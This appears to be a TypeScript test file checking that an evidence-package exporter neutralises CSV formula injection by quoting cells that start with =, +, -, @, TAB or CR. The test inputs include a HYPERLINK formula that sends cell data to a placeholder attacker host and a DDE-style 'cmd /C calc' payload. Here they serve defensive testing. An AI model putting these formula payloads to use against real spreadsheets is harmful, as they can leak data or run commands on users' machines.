/**
 * CSV formula injection: a value the load file (data/metadata/items.csv) carries that starts with = + - @ TAB or
 * CR is written with a leading "'" so a spreadsheet shows it as text instead of evaluating it. Checked on the
 * writer with each leading character, and on a real export whose evidence title and file name are formulas.
 */
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportPackage } from '../../main/core/exchange/package';
import { csvField, itemsCsv, type ItemRow } from '../../main/core/exchange/package/load-file';
import { ORG, fileScopedVault } from '../helpers/package-fixture';
import { tempDir } from '../helpers/tmp';

/** RFC 4180 fields of one CSV text (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      let v = '';
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          v += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else v += text[i++];
      }
      row.push(v);
    }
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length && text[i] !== '"') throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return rows;
}

const LEADING = ['=', '+', '-', '@', '\t', '\r'];

const row = (title: string): ItemRow => ({
  id: 'item1',
  path: `data/evidence/item1/${title.replace(/[\t\r]/g, '_')}.txt`,
  type: 'file',
  title,
  date: null,
  mediaType: 'text/plain',
  size: 1,
  sha256: 'a'.repeat(64),
  author: title,
  source: null,
  language: null,
  confidentiality: 'confidential',
  credibility: 2,
  verifiedDocument: false,
  derivedFrom: null,
  claims: [],
  custody: { entries: 1, first: { seq: 1, ts: 't', action: 'custody.intake', actor: 'a' }, last: { seq: 1, ts: 't', action: 'custody.intake', actor: 'a' }, lastHash: 'h' },
});

describe('CSV formula injection', () => {
  it.each(LEADING)('a value starting with %j is prefixed with a quote', (c) => {
    const formula = `${c}HYPERLINK("http://evil.example/?"&A1,"open")`;
    expect(csvField(formula)).toBe(`"'${formula.replace(/"/g, '""')}"`);
    const [header, values] = parseCsv(itemsCsv([row(formula)]));
    const col = (name: string) => values![header!.indexOf(name)];
    expect(col('title')).toBe(`'${formula}`);
    expect(col('author_source')).toBe(`'${formula}`);
    for (const v of values!) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves other values as they are', () => {
    expect(csvField('Payroll ledger = 2019')).toBe('"Payroll ledger = 2019"');
    expect(csvField(42)).toBe('"42"');
    expect(csvField(null)).toBe('""');
  });

  describe('in an exported package', () => {
    let v: Awaited<ReturnType<typeof fileScopedVault>>;
    beforeAll(async () => {
      v = await fileScopedVault();
    });
    afterAll(() => v?.dispose());

    it('items.csv carries no cell a spreadsheet would evaluate', async () => {
      const c = v.ws.cases.create({ name: 'CSV case' });
      // Titles are trimmed at intake, so TAB and CR cannot lead one here (the writer's own test covers them).
      const leading = ['=', '+', '-', '@'];
      for (const ch of leading) {
        await v.ws.evidence.intake([Buffer.from(`evidence ${ch.charCodeAt(0)}`)], { caseId: c.id, originalName: `${ch}cmd.txt`, title: `${ch}cmd|' /C calc'!A0` });
      }
      const out = join(tempDir(), 'bag');
      await exportPackage(v.ws, { caseId: c.id, selection: { case: true }, profile: 'prosecutor', outPath: out, organization: ORG });
      const rows = parseCsv(readFileSync(join(out, 'data', 'metadata', 'items.csv'), 'utf8'));
      const titles = rows.slice(1).map((r) => r[rows[0]!.indexOf('title')]);
      expect(titles.sort()).toEqual(leading.map((ch) => `'${ch}cmd|' /C calc'!A0`).sort());
      for (const r of rows) for (const cell of r) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
      rmSync(out, { recursive: true, force: true });
    });
  });
});
